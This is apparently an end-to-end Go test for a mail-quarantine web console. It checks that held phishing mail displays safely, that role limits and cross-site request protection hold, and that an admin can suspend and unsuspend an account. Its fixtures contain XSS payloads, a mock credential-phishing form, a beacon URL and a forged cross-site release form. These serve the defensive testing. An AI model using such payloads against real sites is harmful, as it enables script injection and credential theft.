package e2e

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"outguard/internal/harness"
	"outguard/quarantine"
)

const chromium = "/usr/bin/chromium"

// console is `milterctl web` (the binary) on the stores of a milterd
// that holds mail through the real Postfix with the shipped rules.
type console struct {
	url   string
	stack *harness.Stack
	q     *quarantine.Store
}

const consolePass = "correct horse battery staple"

func startConsole(t *testing.T) *console {
	harness.Require(t, chromium)
	rulesDir, _ := filepath.Abs("../rules")
	access := map[string]string{}
	for _, a := range []string{"n1", "n2", "n3"} {
		access[a+"@remote.test"] = "REJECT 5.1.1 no such user"
	}
	section := "rules: {dir: " + rulesDir + ", watch: false}\n" +
		"limits:\n  contact: abuse@isp.test\n  default: {undeliverable_per_hour: 3}\n"
	s, cfg, res := harness.ConfigStack(t, section+"quarantine: {}\n", harness.MTAConfig{RcptAccess: access})
	// The release address: a Postfix without milters, relaying to the sink.
	release := harness.StartPostfix(t, harness.MTAConfig{RelayPort: s.Sink.Port})
	url := runConsole(t, "state_dir: "+cfg.StateDir+"\n"+section+"quarantine: {release_address: \""+release.Addr()+"\"}\n")
	return &console{url: url, stack: s, q: res.Quarantine}
}

// runConsole runs `milterctl web` (the binary) on the config text with a
// web section added, and a user of each role (password consolePass); it
// returns the console's URL.
func runConsole(t *testing.T, text string) string {
	dir := t.TempDir()
	bin := harness.Build(t, dir, "milterctl")
	cfgFile := filepath.Join(dir, "milterd.yaml")
	users := filepath.Join(dir, "web-users")
	os.WriteFile(cfgFile, []byte(text+"web: {users_file: "+users+"}\n"), 0o644)
	for _, role := range []string{"viewer", "reviewer", "admin"} {
		cmd := exec.Command(bin, "-config", cfgFile, "web", "adduser", role, role)
		cmd.Stdin = strings.NewReader(consolePass + "\n")
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("adduser: %v\n%s", err, out)
		}
	}
	// Port 0: the console binds a port of its own and logs it.
	cmd := exec.Command(bin, "web", "-config", cfgFile, "-listen", "127.0.0.1:0")
	log := &harness.LogBuffer{}
	cmd.Stderr = log
	addr := harness.LoggedAddr(t, log.String, harness.Start(t, cmd), "web console listening")
	t.Cleanup(func() {
		if t.Failed() {
			t.Logf("milterctl web's log:\n%s", log)
		}
	})
	return "http://" + addr
}

// browser is a headless Chromium with a profile of its own in the test's
// directory, and what it did: the dialogs that opened, every request it
// sent and every response it got.
type browser struct {
	ctx context.Context
	mu  sync.Mutex
	// dialogs opened by script; requests' URLs; responses by URL.
	dialogs   []string
	requests  []string
	responses map[string]int64
}

func startBrowser(t *testing.T) context.Context {
	opts := []chromedp.ExecAllocatorOption{
		chromedp.ExecPath(chromium), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU, chromedp.NoFirstRun,
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.Flag("disable-default-apps", true),
		chromedp.UserDataDir(t.TempDir()), chromedp.WindowSize(1280, 900),
	}
	alloc, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancel)
	ctx, cancel2 := chromedp.NewContext(alloc)
	t.Cleanup(cancel2)
	if err := chromedp.Do(ctx); err != nil { // starts Chromium
		t.Fatalf("chromium: %v", err)
	}
	return ctx
}

// tab opens a tab in a browser context of its own (its own cookies) and
// records what it does.
func tab(t *testing.T, browserCtx context.Context) *browser {
	ctx, cancel := chromedp.NewContext(browserCtx, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	b := &browser{ctx: ctx, responses: map[string]int64{}}
	err := chromedp.Listen(ctx, func(ev any) {
		b.mu.Lock()
		defer b.mu.Unlock()
		switch ev := ev.(type) {
		case *page.EventJavascriptDialogOpening:
			b.dialogs = append(b.dialogs, ev.Message)
		case *network.EventRequestWillBeSent:
			b.requests = append(b.requests, ev.Request.URL)
		case *network.EventResponseReceived:
			b.responses[ev.Response.URL] = ev.Response.Status
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func (b *browser) do(t *testing.T, actions ...chromedp.Action[chromedp.Void]) {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		b.mu.Lock()
		defer b.mu.Unlock()
		t.Fatalf("browser: %v (script dialogs opened: %q)", err, b.dialogs) // an open alert blocks the page
	}
}

func (b *browser) text(t *testing.T, sel string) string {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	s, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
	if err != nil {
		t.Fatalf("browser: text of %s: %v", sel, err)
	}
	return s
}

func eval[T any](t *testing.T, b *browser, js string) T {
	t.Helper()
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	v, err := chromedp.Run(ctx, chromedp.Evaluate[T](js))
	if err != nil {
		t.Fatalf("browser: %s: %v", js, err)
	}
	return v
}

func (b *browser) login(t *testing.T, c *console, name string) {
	t.Helper()
	b.do(t, chromedp.Navigate(c.url+"/login"),
		chromedp.SendKeys(chromedp.CSS(`input[name=user]`), name),
		chromedp.SendKeys(chromedp.CSS(`input[name=password]`), consolePass),
		chromedp.Click(chromedp.CSS(`form.login button`)),
		chromedp.WaitVisible(chromedp.CSS(`nav`)))
}

// screenshot keeps the page as docs/screenshots/NAME.png when
// OUTGUARD_SCREENSHOTS names that directory (make screenshots).
func (b *browser) screenshot(t *testing.T, name string) {
	dir := os.Getenv("OUTGUARD_SCREENSHOTS")
	if dir == "" {
		return
	}
	ctx, cancel := context.WithTimeout(b.ctx, 30*time.Second)
	defer cancel()
	png, err := chromedp.Run(ctx, chromedp.CaptureScreenshot())
	if err != nil {
		t.Fatalf("screenshot: %v", err)
	}
	if err := os.WriteFile(filepath.Join(dir, name+".png"), png, 0o644); err != nil {
		t.Fatal(err)
	}
}

// phishing is a credential-phishing kit as the shipped rule
// html_password_form_offsite holds it; subject, file name and page are the
// attacker's.
func phishing(subject, filename, html string) string {
	b64 := base64.StdEncoding.EncodeToString([]byte(html))
	return "From: <alice@customer.test>\r\nTo: <victim@remote.test>\r\nSubject: " + subject + "\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b0undary\"\r\n\r\n" +
		"--b0undary\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nPlease verify <script>alert('body')</script>\r\n" +
		"--b0undary\r\nContent-Type: text/html\r\nContent-Disposition: attachment; " + filename + "\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
		b64 + "\r\n--b0undary--\r\n"
}

const kit = `<html><body><form method="post" action="https://login-secure.example.biz/collect.php"><input type="text" name="u"><input type="password" name="p"></form></body></html>`

// hostileKit also tries to run script and call out, were it rendered.
const hostileKit = `<html><body><script>alert('html part')</script><img src="http://127.0.0.9:9/beacon.gif"><a href="javascript:alert('link')">x</a>` +
	`<form method="post" action="https://login-secure.example.biz/collect.php"><input type="text" name="u"><input type="password" name="p"></form></body></html>`

func (c *console) hold(t *testing.T, msg string) quarantine.Record {
	t.Helper()
	before, _ := c.q.List(context.Background(), quarantine.Filter{})
	if r := c.stack.Dial(t).SendFrom("alice@customer.test", []string{"victim@remote.test"}, strings.NewReader(msg)); r.Err != nil {
		t.Fatalf("send: %s", harness.Reply(r.Err))
	}
	recs, _ := c.q.List(context.Background(), quarantine.Filter{})
	if len(recs) != len(before)+1 || !strings.Contains(recs[0].Reason, "html_password_form_offsite") {
		t.Fatalf("not held by the shipped rule: %d entries, newest %+v", len(recs), recs)
	}
	return recs[0]
}

func (c *console) state(t *testing.T, id string) string {
	rec, err := c.q.Get(context.Background(), id)
	if err != nil {
		t.Fatal(err)
	}
	return rec.State
}

// The console in a real browser: a reviewer signs in, finds a message the
// shipped rules held through Postfix, sees its parts and findings and
// releases it to the sink; a viewer's release is refused; hostile subject,
// file name and HTML stay text; a cross-site form post changes nothing; an
// admin unsuspends an account and its mail is accepted again.
func TestWebConsoleInBrowser(t *testing.T) {
	t.Parallel()
	c := startConsole(t)
	plain := c.hold(t, phishing("verify your account", `filename="verify.html"`, kit))
	hostileSubject := `<script>alert('subject')</script> javascript:alert(1) =?utf-8?q?=1B=5B31mRED=1B=5B0m_=E2=80=AEgpj.exe?=`
	hostileName := `filename*=utf-8''%3Cimg%20src%3Dx%20onerror%3Dalert%282%29%3Ejavascript%3Aalert%283%29%1B%5B2J.html`
	hostile := c.hold(t, phishing(hostileSubject, hostileName, hostileKit))
	browserCtx := startBrowser(t)

	// A reviewer signs in and finds the held message by its rule.
	rev := tab(t, browserCtx)
	rev.login(t, c, "reviewer")
	rev.do(t, chromedp.Navigate(c.url+"/quarantine?rule=html_password_form_offsite&state=held"), chromedp.WaitVisible(chromedp.CSS(`table.list`)))
	if n := eval[int](t, rev, `document.querySelectorAll('table.list tbody tr').length`); n != 2 {
		t.Errorf("%d entries listed, want 2", n)
	}
	rev.screenshot(t, "quarantine")
	rev.do(t, chromedp.Click(chromedp.CSS(`a[href="/quarantine/`+plain.ID+`"]`)), chromedp.WaitVisible(chromedp.CSS(`table.parts`)))
	parts := rev.text(t, `table.parts`)
	if !strings.Contains(parts, "text/html\tverify.html\t167") || !strings.Contains(parts, "1.1\ttext/plain") {
		t.Errorf("parts:\n%s", parts)
	}
	onPart := eval[string](t, rev, `[...document.querySelectorAll('table.parts tbody tr')].map(r => r.cells[0].innerText + '=' + r.cells[4].innerText.trim()).join('|')`)
	if onPart != "header=|1.1=|1.2=rules: phishing:html_password_form_offsite quarantine" {
		t.Errorf("findings per part: %q", onPart)
	}
	if f := rev.text(t, `ul.findings`); !strings.Contains(f, "html_password_form_offsite") || !strings.Contains(f, "in part 1.2 (verify.html)") {
		t.Errorf("findings: %s", f)
	}
	if src := rev.text(t, `body`); !strings.Contains(src, `<input type="password" name="p">`) {
		t.Errorf("the HTML part is not shown as source")
	}
	rev.screenshot(t, "entry")

	// Release: it arrives at the sink, once.
	rev.do(t, chromedp.Click(chromedp.CSS(`#release`)), chromedp.WaitVisible(chromedp.CSS(`#outcome`)))
	if out := rev.text(t, `#outcome`); !strings.Contains(out, "released: 250") {
		t.Fatalf("release: %s", out)
	}
	got := c.stack.Sink.Wait(t, 1, 20*time.Second)[0]
	if !strings.Contains(string(got.Data), "Subject: verify your account") || c.state(t, plain.ID) != quarantine.Released {
		t.Errorf("released message:\n%s", got.Data)
	}

	// The hostile entry: every bit of it is text.
	rev.do(t, chromedp.Navigate(c.url+"/quarantine/"+hostile.ID), chromedp.WaitVisible(chromedp.CSS(`table.parts`)))
	subject := rev.text(t, `#subject`)
	for _, want := range []string{`<script>alert('subject')</script>`, `javascript:alert(1)`, `\x1b[31mRED\x1b[0m`, `\u202egpj.exe`} {
		if !strings.Contains(subject, want) {
			t.Errorf("subject %q does not show %q as text", subject, want)
		}
	}
	if name := eval[string](t, rev, `[...document.querySelectorAll('td.filename')].map(e => e.innerText).join('|')`); !strings.Contains(name, `<img src=x onerror=alert(2)>javascript:alert(3)\x1b[2J.html`) {
		t.Errorf("file name shown as %q", name)
	}
	if n := eval[int](t, rev, `document.scripts.length + document.images.length + document.querySelectorAll('a[href^="javascript"], iframe, object, embed, form[action^="http"]').length`); n != 0 {
		t.Errorf("%d active elements from the message in the page", n)
	}
	rev.screenshot(t, "hostile")

	// A cross-site page posts the release form, even with the reviewer's
	// valid token: refused, nothing delivered.
	token := eval[string](t, rev, `document.querySelector('input[name=csrf]').value`)
	evil, err := net.Listen("tcp", "127.0.0.2:0")
	if err != nil {
		t.Fatal(err)
	}
	go http.Serve(evil, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, `<html><body><form method="post" action="%s/quarantine/%s/release"><input type="hidden" name="csrf" value="%s"><button id="go">win a prize</button></form></body></html>`, c.url, hostile.ID, token)
	}))
	t.Cleanup(func() { evil.Close() })
	rev.do(t, chromedp.Navigate("http://"+evil.Addr().String()+"/"), chromedp.Click(chromedp.CSS(`#go`)), chromedp.WaitVisible(chromedp.CSS(`body`)))
	releaseURL := c.url + "/quarantine/" + hostile.ID + "/release"
	waitFor(t, "the cross-site post's response", func() bool { rev.mu.Lock(); defer rev.mu.Unlock(); return rev.responses[releaseURL] != 0 })
	rev.mu.Lock()
	if code := rev.responses[releaseURL]; code != 401 && code != 403 {
		t.Errorf("cross-site release: %d", code)
	}
	rev.mu.Unlock()

	// A viewer sees no release button, and a release posted anyway (with
	// the viewer's own valid token) is refused with 403.
	view := tab(t, browserCtx)
	view.login(t, c, "viewer")
	view.do(t, chromedp.Navigate(c.url+"/quarantine/"+hostile.ID), chromedp.WaitVisible(chromedp.CSS(`table.parts`)))
	if n := eval[int](t, view, `document.querySelectorAll('#release, #delete').length`); n != 0 {
		t.Errorf("a viewer is offered release or delete")
	}
	view.do(t, chromedp.Evaluate[chromedp.Void](`(() => { const f = document.createElement('form'); f.method = 'post'; f.action = '/quarantine/`+hostile.ID+`/release';
		const i = document.createElement('input'); i.name = 'csrf'; i.value = document.querySelector('input[name=csrf]').value; f.appendChild(i); document.body.appendChild(f); f.submit(); })()`),
		chromedp.WaitVisible(chromedp.CSS(`p.error`)))
	view.mu.Lock()
	if code := view.responses[releaseURL]; code != 403 {
		t.Errorf("viewer's release: %d, want 403", code)
	}
	view.mu.Unlock()
	time.Sleep(time.Second)
	if n := len(c.stack.Sink.Messages()); n != 1 || c.state(t, hostile.ID) != quarantine.Held {
		t.Errorf("after the refused releases: %d delivered, state %s", n, c.state(t, hostile.ID))
	}

	// bob's mail to three unknown recipients suspends him; an admin sees
	// the evidence and unsuspends him; his next message is accepted.
	bob := func() harness.Result {
		return harness.Dial(t, c.stack.Postfix.Addr(), "bob", "secret-bob").Send("bob@customer.test", []string{"n1@remote.test", "n2@remote.test", "n3@remote.test", "friend@remote.test"}, harness.Msg("bob@customer.test", "friend@remote.test", "hi", "hi"))
	}
	bob()
	if r := bob(); !strings.HasPrefix(harness.Reply(r.Err), "451 4.7.1 Account suspended") {
		t.Fatalf("bob is not suspended: %s", harness.Reply(r.Err))
	}
	adm := tab(t, browserCtx)
	adm.login(t, c, "admin")
	adm.do(t, chromedp.Navigate(c.url+"/accounts?filter=suspended"), chromedp.WaitVisible(chromedp.CSS(`table.list`)))
	adm.screenshot(t, "accounts")
	adm.do(t, chromedp.Click(chromedp.CSS(`a[href="/accounts/bob"]`)), chromedp.WaitVisible(chromedp.CSS(`#unsuspend`)))
	if body := adm.text(t, `main`); strings.Count(body, "no such user") < 3 || !strings.Contains(body, "n3@remote.test") {
		t.Errorf("account page lacks the evidence:\n%s", body)
	}
	adm.screenshot(t, "account")
	adm.do(t, chromedp.Click(chromedp.CSS(`#unsuspend`)), chromedp.WaitVisible(chromedp.CSS(`#outcome`)))
	if out := adm.text(t, `#outcome`); !strings.Contains(out, "unsuspended") {
		t.Fatalf("unsuspend: %s", out)
	}
	r := harness.Dial(t, c.stack.Postfix.Addr(), "bob", "secret-bob").Send("bob@customer.test", []string{"friend@remote.test"}, harness.Msg("bob@customer.test", "friend@remote.test", "again", "hello again"))
	if r.Err != nil {
		t.Errorf("bob after unsuspend: %s", harness.Reply(r.Err))
	}
	waitFor(t, "bob's message at the sink", func() bool {
		for _, m := range c.stack.Sink.Messages() {
			if strings.Contains(string(m.Data), "Subject: again") {
				return true
			}
		}
		return false
	})

	// The audit trail has each action with the console's user.
	adm.do(t, chromedp.Navigate(c.url+"/audit"), chromedp.WaitVisible(chromedp.CSS(`table.list`)))
	audit := adm.text(t, `table.list`)
	for _, want := range []string{"web:reviewer\trelease\t" + plain.ID, "web:admin\taccount unsuspend\tbob"} {
		if !strings.Contains(audit, want) {
			t.Errorf("audit trail lacks %q:\n%s", want, audit)
		}
	}
	adm.screenshot(t, "audit")

	// On a phone: nothing wider than the screen.
	adm.do(t, chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile), chromedp.Navigate(c.url+"/quarantine/"+hostile.ID), chromedp.WaitVisible(chromedp.CSS(`table.parts`)))
	if w := eval[int](t, adm, `document.documentElement.scrollWidth`); w > 390 {
		t.Errorf("the entry page is %d px wide on a 390 px phone", w)
	}
	adm.screenshot(t, "phone")

	// No dialog opened and no request left for anywhere but the console
	// (the attacker's page aside, which the test opened itself).
	for _, b := range []*browser{rev, view, adm} {
		b.mu.Lock()
		if len(b.dialogs) > 0 {
			t.Errorf("dialogs opened: %q", b.dialogs)
		}
		for _, u := range b.requests {
			// data: URLs are the browser's own (a date field's icon):
			// nothing goes on the network for them.
			if !strings.HasPrefix(u, c.url+"/") && !strings.HasPrefix(u, "http://"+evil.Addr().String()+"/") && !strings.HasPrefix(u, "data:") {
				t.Errorf("a request left for %s", u)
			}
		}
		b.mu.Unlock()
	}
}

// The queued-mail actions in a real browser through a real Postfix: alice
// has three messages deferred in Postfix's queue (the receiver answers
// 4xx); an admin suspends her from her page, which puts the three on hold
// at once (limits.on_suspend_queued: hold, milterd's sweep off so that it
// is the console's doing); her page lists them as held; the receiver
// accepts again and Postfix retries, but none leaves the hold; "Unsuspend
// and release its held mail" releases them and they are delivered. The
// account's audit trail has each step with the console's user. A
// reviewer is offered none of it.
func TestWebConsoleQueuedMail(t *testing.T) {
	t.Parallel()
	harness.Require(t, chromium)
	h := startContainmentHost(t, storeConfig(t, "sqlite", "  on_suspend_queued: hold\n"), nil, false)
	text, err := os.ReadFile(h.ctlConf)
	if err != nil {
		t.Fatal(err)
	}
	c := &console{url: runConsole(t, string(text))}
	ids := h.deferThree(t)
	browserCtx := startBrowser(t)

	adm := tab(t, browserCtx)
	adm.login(t, c, "admin")
	page := c.url + "/accounts/" + harness.User
	adm.do(t, chromedp.Navigate(page), chromedp.WaitVisible(chromedp.CSS(`#state`)))
	// Listed, none held; each deferred or, between Postfix's fast
	// retries, back in its active or incoming queue.
	if q := adm.text(t, `main`); strings.Contains(q, "held") || !strings.Contains(q, "In this host's queue: 3 message(s)") ||
		slices.ContainsFunc(ids, func(id string) bool { return !strings.Contains(q, id) }) {
		t.Fatalf("before the suspension, the page shows:\n%s", q)
	}
	adm.do(t, chromedp.SendKeys(chromedp.CSS(`input[name=reason]`), "phished"), chromedp.Click(chromedp.CSS(`#suspend`)), chromedp.WaitVisible(chromedp.CSS(`#outcome`)))
	if out := adm.text(t, `#outcome`); !strings.Contains(out, "queued on this host: "+strings.Join(ids, " ")+" (hold)") {
		t.Fatalf("suspend: %s", out)
	}
	if held := inQueue(t, h.s.Postfix.Dir, "hold"); fmt.Sprint(held) != fmt.Sprint(ids) {
		t.Fatalf("Postfix holds %v after the suspension; want %v", held, ids)
	}
	adm.do(t, chromedp.Navigate(page), chromedp.WaitVisible(chromedp.CSS(`table.queued`)))
	rows := eval[string](t, adm, `[...document.querySelectorAll('table.queued tbody tr')].map(r => r.cells[0].innerText + '=' + r.cells[1].innerText).join(' ')`)
	if want := ids[0] + "=held " + ids[1] + "=held " + ids[2] + "=held"; rows != want {
		t.Errorf("queued mail shown as %q; want %q", rows, want)
	}
	adm.screenshot(t, "account-queued")

	// Held mail stays held though the receiver takes it now.
	h.s.Sink.Answer("later@remote.test", 0, nil)
	exec.Command("postqueue", "-c", h.s.Postfix.Dir, "-f").Run()
	time.Sleep(3 * time.Second)
	if n := len(h.s.Sink.Messages()); n != 0 {
		t.Fatalf("%d held messages delivered", n)
	}

	// A reviewer sees the queue but is offered no account action.
	rev := tab(t, browserCtx)
	rev.login(t, c, "reviewer")
	rev.do(t, chromedp.Navigate(page), chromedp.WaitVisible(chromedp.CSS(`table.queued`)))
	if n := eval[int](t, rev, `document.querySelectorAll('#unsuspend, #release-queued, #delete-queued, #suspend').length`); n != 0 {
		t.Errorf("a reviewer is offered %d account actions", n)
	}

	adm.do(t, chromedp.Click(chromedp.CSS(`#release-queued`)), chromedp.WaitVisible(chromedp.CSS(`#outcome`)))
	if out := adm.text(t, `#outcome`); !strings.Contains(out, "unsuspended") || !strings.Contains(out, "released: 3 message(s) "+strings.Join(ids, " ")) {
		t.Fatalf("release-queued: %s", out)
	}
	if held := inQueue(t, h.s.Postfix.Dir, "hold"); len(held) != 0 {
		t.Errorf("still held after release-queued: %v", held)
	}
	exec.Command("postqueue", "-c", h.s.Postfix.Dir, "-f").Run()
	h.s.Sink.Wait(t, 3, 20*time.Second)
	waitFor(t, "the queue empty", func() bool { return len(queue(t, h.s.Postfix.Dir)) == 0 })

	// The account's audit trail (milterctl accounts audit) has it all,
	// with the console's user.
	bin := harness.Build(t, harness.Dir(t, "bin"), "milterctl")
	out, code := milterctl(t, bin, h.ctlConf, "accounts", "audit", harness.User, "--json")
	var trail []struct{ Event, By, Detail string }
	if err := json.Unmarshal([]byte(out), &trail); code != 0 || err != nil {
		t.Fatalf("audit (%d, %v):\n%s", code, err, out)
	}
	var got []string
	for _, e := range trail {
		got = append(got, e.Event+" by "+e.By+": "+e.Detail)
	}
	want := []string{"suspended by web:admin: phished", "queue held by web:admin: " + strings.Join(ids, " "), "unsuspended by web:admin: ", "queue released by web:admin: " + strings.Join(ids, " ")}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("audit trail:\n%s\nwant\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
	// The account's page shows the same trail.
	adm.do(t, chromedp.Navigate(page), chromedp.WaitVisible(chromedp.CSS(`table.trail`)))
	shown := eval[string](t, adm, `[...document.querySelectorAll('table.trail tbody tr')].map(r => r.cells[1].innerText + ' by ' + r.cells[2].innerText + ': ' + r.cells[4].innerText).join('|')`)
	if want := strings.Join(want, "|"); shown != want {
		t.Errorf("the page's audit trail: %q, want %q", shown, want)
	}
	// And the console's audit trail page, on a console without a
	// quarantine.
	adm.do(t, chromedp.Navigate(c.url+"/audit"), chromedp.WaitVisible(chromedp.CSS(`table.accounts-trail`)))
	if all := adm.text(t, `table.accounts-trail`); !strings.Contains(all, "web:admin\tqueue released\t"+harness.User+"\t"+strings.Join(ids, " ")) {
		t.Errorf("the audit trail page:\n%s", all)
	}
}
